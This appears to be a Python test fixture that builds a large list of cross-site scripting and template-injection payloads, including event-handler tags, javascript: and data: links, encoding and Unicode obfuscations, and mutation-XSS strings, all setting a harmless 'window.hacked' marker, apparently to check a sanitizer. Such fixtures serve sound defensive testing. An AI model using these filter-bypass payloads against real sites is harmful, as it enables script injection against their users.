"""Words that try to become code where they are shown."""

from __future__ import annotations

_JS = "window.hacked=1"
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
)
_LINKS = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "\x01javascript:",
    "//evil.example/",
)
_WRAPPERS = ("[x]({}{})", "<a href='{}{}'>x</a>", "<{}{}>", "![x]({}{})")
_OTHERS = (
    f"<script>{_JS}</script>",
    f"<ScRiPt>{_JS}</sCrIpT>",
    f"</script><script>{_JS}</script>",
    f"<script src=data:,{_JS}></script>",
    f'"><script>{_JS}</script>',
    f"';{_JS};//",
    f"{{{{constructor.constructor('{_JS}')()}}}}",
    f"${{{_JS}}}",
    f"<%= {_JS} %>",
    f"#{{{_JS}}}",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    f"<style>@import'javascript:{_JS}';</style>",
    f"<link rel=stylesheet href=javascript:{_JS}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
    f"<base href=javascript:{_JS}//>",
    f"<object data=javascript:{_JS}>",
    f"<embed src=javascript:{_JS}>",
    f"<form action=javascript:{_JS}><button autofocus>x</form>",
    f"<template><script>{_JS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e",
    f"%3Cscript%3E{_JS}%3C/script%3E",
    f"＜script＞{_JS}＜/script＞",
    f"<scr\u200bipt>{_JS}</scr\u200bipt>",
    f"\u202e<script>{_JS}</script>",
    f"<!--><script>{_JS}</script>-->",
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"**<img src=x onerror={_JS}>**",
    f"- <img src=x onerror={_JS}>",
    f"`<img src=x onerror={_JS}>`",
    f"<img src='x' onerror\n=\n{_JS}>",
    f"<img/src=x/onerror={_JS}>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_JS}><text y=20>x</text></a>",
    f"<marquee onstart={_JS}>",
    f"<ruby><rt><img src=x onerror={_JS}></rt></ruby>",
)

ATTACKS = tuple(
    [f"<{tag} {event}={_JS}>" for tag in _TAGS for event in _EVENTS]
    + [wrapper.format(link, _JS) for wrapper in _WRAPPERS for link in _LINKS]
    + list(_OTHERS)
)
